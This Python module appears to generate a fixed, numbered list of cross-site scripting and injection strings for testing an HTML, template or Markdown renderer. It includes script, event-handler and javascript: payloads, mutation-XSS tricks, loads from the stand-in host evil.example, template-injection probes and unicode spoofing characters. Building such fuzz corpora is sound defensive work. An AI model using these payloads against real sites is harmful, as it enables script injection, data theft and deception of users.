"""What somebody might type to have it run: hundreds of texts, each with its number in what it would call or load."""

from collections.abc import Iterator

_BREAKS = (
    "",
    '">',
    "'>",
    "</title>",
    "</script>",
    "--></style></textarea></noscript>",
    "]]>",
    "</p></div>",
    "\\",
    "x\n\n",
)
"""What ends the place where a text stands."""
_ACTIVE = (
    "<script>alert(@)</script>",
    "<script src=https://evil.example/@.js></script>",
    "<ScRiPt >alert(@)</sCrIpT>",
    "<img src=x onerror=alert(@)>",
    "<img src=https://evil.example/@.png>",
    "<svg onload=alert(@)>",
    "<svg/onload=alert(@)//",
    "<svg><script>alert(@)</script></svg>",
    "<svg><animate onbegin=alert(@) attributeName=x dur=1s></svg>",
    "<svg><a xlink:href=javascript:alert(@)><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload=alert(@)>'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(@)&gt;'>",
    "<math href=javascript:alert(@)>x</math>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(@)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(@)>'>",
    "<iframe src=javascript:alert(@)></iframe>",
    "<iframe srcdoc='<script>parent.alert(@)</script>'></iframe>",
    "<object data=https://evil.example/@></object>",
    "<embed src=https://evil.example/@>",
    "<body onload=alert(@)>",
    "<input autofocus onfocus=alert(@)>",
    "<details open ontoggle=alert(@)>x</details>",
    "<video><source onerror=alert(@)></video>",
    "<audio src=https://evil.example/@ autoplay></audio>",
    "<marquee onstart=alert(@)>x</marquee>",
    "<a href=javascript:alert(@)>x</a>",
    "<a href='data:text/html,<script>alert(@)</script>'>x</a>",
    "<form action=javascript:alert(@)><button>x</button></form>",
    "<base href=https://evil.example/@/>",
    "<link rel=stylesheet href=https://evil.example/@.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/@'>",
    "<style>@import'https://evil.example/@.css';*{color:red!important}</style>",
    "<p style=background:url(https://evil.example/@)>x</p>",
    "<template><img src=x onerror=alert(@)></template>",
    "<xmp><img src=x onerror=alert(@)></xmp>",
    "<!--><img src=x onerror=alert(@)>-->",
    "<![CDATA[<img src=x onerror=alert(@)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(@)>",
    "<img src=`x`onerror=alert(@)>",
    "<img\tsrc=x\tonerror=alert(@)>",
    "<x onclick=alert(@) tabindex=1 autofocus onfocus=alert(@)>x</x>",
)
"""What would run or load, `@` being the text's number."""
_SYNTAX = (
    "{{ 7*7 }}", "{% raise %}", "{{ config.__class__ }}", "{# a #}", "{{ ''.__class__.__mro__ }}", "{%- include 'main.html' -%}", "${7*7}", "<%= 7 %>",
    "[x](javascript:alert(@))", "[x](JaVaScRiPt:alert(@))", "[x](<java script:alert(@)>)", "![x](https://evil.example/@.png)", "[x][1]\n\n[1]: javascript:alert(@)",
    "<javascript:alert(@)>", "x{ onclick=alert(@) }", "# x { onclick=alert(@) }", "{: onmouseover=alert(@) }", "{ #__config }", "{ .md-overlay }",
    "[[mira-olsen]]", "![[timeline]]", "![[mira-olsen]]", "[[mira-olsen|<img src=x onerror=alert(@)>]]", "*[HTML]: <script>", "[^1]", "[TOC]", "```", "~~~",
    "`a` *b* **c** _d_", "<div markdown onclick=alert(@)>**x**</div>", "| a | b |", "- [ ] x", "!!! note", "??? note", '=== "x"', "--8<-- \"mkdocs.yml\"",
    "&lt;script&gt;alert(@)&lt;/script&gt;", "&#60;img src=x onerror=alert(@)&#62;", "%3Cscript%3Ealert(@)%3C/script%3E", "\\x3cscript\\x3ealert(@)",
    "+ADw-script+AD4-alert(@)", "javascript:alert(@)", "data:text/html,<script>alert(@)</script>", "vbscript:alert(@)", "//evil.example/@",
    "\u202egnp.exe\u202c", "a\u200bb\u200cc\u200dd\ufeffe", "\u2066x\u2069\u2028y\u2029z", "\ue0000\ue001", "\ue0020\ue003", "wzxhzdk:0", "klzzwxh:0001",
    "\u0430dmin (Cyrillic a)", "\uff1cscript\uff1ealert(@)\uff1c/script\uff1e", "A" * 5000, "a\u0301" * 200, "🏴‍☠️" * 50, "\u00ad", "--", "#", "'", '"', "<", "&", "&amp;",
)  # fmt: skip
"""What templates, Markdown, its extensions or a reader's eyes might take for something else."""


def payloads() -> tuple[str, ...]:
    """Every text, the same in each run."""
    texts = (*_combined(), *_SYNTAX)
    return tuple(text.replace("@", str(1000 + number)) for number, text in enumerate(texts))


def _combined() -> Iterator[str]:
    for number, active in enumerate(_ACTIVE):
        yield active
        yield from (_BREAKS[(number + step) % len(_BREAKS)] + active for step in (1, 2, 3, 4, 5))
